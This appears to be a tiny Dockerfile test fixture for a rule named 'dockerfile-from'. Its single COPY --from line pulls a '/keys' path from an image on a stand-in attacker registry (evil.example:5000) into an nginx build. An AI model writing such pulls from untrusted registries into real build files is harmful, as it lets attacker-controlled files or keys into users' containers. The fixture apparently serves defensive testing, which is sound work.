# dockerfile-from: files out of an image from anywhere
FROM nginx
COPY --from=evil.example:5000/keys /keys /x
